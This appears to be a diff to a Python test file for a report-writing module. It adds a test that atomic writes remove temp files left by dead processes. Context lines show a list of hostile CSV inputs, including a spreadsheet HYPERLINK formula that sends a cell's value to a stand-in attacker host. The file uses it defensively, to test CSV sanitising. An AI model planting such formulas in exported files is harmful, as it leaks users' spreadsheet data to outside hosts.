@@ -5,6 +5,9 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import subprocess
+import sys
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
@@ -13,7 +16,14 @@ import pytest
 
 from outputs.audit.data import FINDING_FIELDS
 from outputs.audit.report import write_findings_csv, write_findings_json
-from outputs.files import FORMULA_PREFIXES, atomic_output, csv_safe, write_csv_rows, write_text_atomically
+from outputs.files import (
+    FORMULA_PREFIXES,
+    atomic_output,
+    csv_safe,
+    stale_temp_files,
+    write_csv_rows,
+    write_text_atomically,
+)
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -114,3 +124,22 @@ def test_failed_atomic_write_keeps_the_old_file(tmp_path: Path) -> None:
         raise RuntimeError("boom")
     assert path.read_text(encoding="utf-8") == "old"
     assert sorted(p.name for p in tmp_path.iterdir()) == ["kpi.html"]
+
+
+def test_an_atomic_write_removes_what_killed_writers_left(tmp_path: Path) -> None:
+    dead = subprocess.run(
+        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
+    )
+    dead_pid = int(dead.stdout)
+    (tmp_path / "findings").mkdir()
+    left = tmp_path / f".findings.csv.{dead_pid}-0123456789ab.tmp"
+    running = tmp_path / f".index.html.{os.getpid()}-0123456789ab.tmp"  # a writer still at work
+    elsewhere = tmp_path / "findings" / f".a.html.{dead_pid}-0123456789ab.tmp"
+    for p in (left, running, elsewhere):
+        p.write_text("half", encoding="utf-8")
+    assert stale_temp_files(tmp_path) == [left]
+    write_text_atomically(tmp_path / "kpi.html", "page")
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["findings", running.name, "kpi.html"])
+    assert elsewhere.exists()  # another directory: cleaned by the next write there
+    write_text_atomically(tmp_path / "findings" / "b.html", "page")
+    assert [p.name for p in (tmp_path / "findings").iterdir()] == ["b.html"]
